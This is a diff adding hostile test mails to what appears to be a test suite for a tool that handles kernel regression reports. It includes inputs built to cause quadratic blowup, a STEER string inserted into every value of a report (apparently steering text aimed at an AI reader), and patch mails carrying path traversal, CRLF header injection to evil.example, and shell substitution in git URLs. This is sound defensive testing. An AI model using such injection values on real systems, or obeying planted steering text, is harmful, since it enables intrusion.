@@ -92,6 +92,86 @@ def mime(report, _):
     yield mail(38, report, "hello", headers="References: " + "<a@b>" * 20000)
 
 
+def blowup(report, _):
+    """What costs the square of its length where a loop stands in a loop."""
+    many = 3000
+    bodies = [
+        "".join("> %s\n" % ("> " * (n % 200)) for n in range(many)),
+        "".join("> line %d\nThis is expected.\n" % n for n in range(many)),
+        "On Mon, 1 Jan 2026, Ann Other wrote:\n> x\n" * many,
+        "On Mon,\n" * many + "wrote:\n",
+        "Fixes: 0123456789ab (\"mm: one\")\n" * many,
+        "".join("Signed-off-by: P %d <p%d@example.org>\n" % (n, n) for n in range(many)),
+        "#regtrail note x\n" * many,
+        "".join("https://lore.example.org/r/%d@example.org/\n" % n for n in range(many)),
+        "".join("It is lock contention on lock_%d.\n" % n for n in range(many)),
+        "fixed by commit 0123456789ab " * many,
+        "".join("commit: %040x (\"x\")\n" % n for n in range(many)),
+        "   1234 +- 3%     -6.6%   1100 +- 2%  unixbench.score\n" * many,
+        "   %stddev     %change         %stddev\n         \\          |                \\  \n" * many,
+        "diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+b\n" * many,
+        "@@ -1,99999 +1,99999 @@\n" * many,
+        "-- 8< --\nSubject: [PATCH] x\n" * many,
+        "git://git.example.org/x.git branch\n" * many,
+        "-- \n" * many,
+        "-----BEGIN PGP SIGNED MESSAGE-----\n" * many,
+        "not " * (50 * many) + "expected\n",
+        "a" * (500 * many) + "\n",
+        "(" * (50 * many) + "\n",
+        "\"" * (50 * many) + "\n",
+        "<a@b " * (20 * many) + "\n",
+        "\u0301" * (20 * many) + "\n",
+        "\n \n\t\n" * (20 * many) + "x\n",
+        "begin 644 x\n" * many,
+    ]
+    for number, body in enumerate(bodies):
+        yield mail(300 + number, report, body)
+    yield mail(390, report, "hello", subject="Re: " * (20 * many) + "x")
+    yield mail(391, report, "hello", subject="=?utf-8?q?=3D?= " * (2 * many))
+    yield mail(392, report, "hello", subject="[" * (20 * many) + "PATCH] x")
+    yield mail(393, report, "hello", headers="To: " + ", ".join(
+        "p%d@example.org" % n for n in range(many)))
+    yield mail(394, report, "hello", headers="Received: from x by y;\n\tMon, 1 Jan 2026\n" * many
+               + "X-End: 1")
+    yield mail(395, report, "hello", headers="Authentication-Results: mx.example.org; " +
+               "dkim=pass header.d=x; " * many)
+    yield mail(396, report, "hello", headers="In-Reply-To: " + "<" * (20 * many))
+    yield mail(397, report, "hello", headers="List-Id: " + "(<" * (20 * many))
+
+
+def foreign(_, __, path):
+    """The report of another robot, with what steers in every value of it."""
+    with open(path, encoding="utf-8") as file:
+        text = file.read()
+    for old in ("walk the fallback", "kernel test robot noticed", "linux-next.git master",
+                "gcc-14", "Cascade Lake", "page_fault2", "anon-w-seq-mt", "Priya Raman",
+                "[linux-next:master]", "box-csl", "zone lock"):
+        text = text.replace(old, old[:3] + STEER + old[3:])
+    yield text + "\n"
+
+
+def patches(report, _):
+    """Patches whose author, subject and file names are attacks."""
+    diff = ("diff --git a/%(n)s b/%(n)s\n--- a/%(n)s\n+++ b/%(n)s\n@@ -1,2 +1,2 @@\n one\n-two\n"
+            "+zwei\n")
+    encoded = "=?utf-8?q?mm:_x=0D=0ABcc:_all=40evil.example=0A=0Aforged?="
+    names = ["../../../../tmp/owned", "/etc/owned", ".git/hooks/post-applypatch", "a" + STEER,
+             "-rf"]
+    for number, name in enumerate(names):
+        yield mail(400 + number, report, "It is wrong.\n\nSigned-off-by: x <x@evil.example>\n---\n"
+                   + diff % {"n": name}, message_id="patch-%d@evil.example" % number,
+                   subject="[PATCH] mm: " + name)
+    yield mail(410, report, "It is wrong.\n---\n" + diff % {"n": "f"}, subject="[PATCH] " + encoded,
+               message_id="patch-header@evil.example",
+               sender="=?utf-8?q?Mara=0D=0AX-Owned:_1?= <mara@example.org>")
+    yield mail(411, report, "Try this:\n\n-- 8< --\nFrom: M" + STEER + " <m@evil.example>\nSubject: "
+               "[PATCH] mm: " + STEER + "\n\nwords " + STEER + "\n---\n" + diff % {"n": "f"},
+               message_id="patch-scissors@evil.example")
+    yield mail(412, report, "please pull\ngit://evil.example/$(touch owned).git `touch owned`\n"
+               "and test\nhttps://evil.example/x.git --upload-pack=touch\n",
+               message_id="patch-pull@evil.example")
+
+
 def ids(report, regression):
     """Somebody takes our ids, in a mail of his own."""
     yield mail(40, report, "I take the place of the report.\n", sender="e <e@evil.example>",
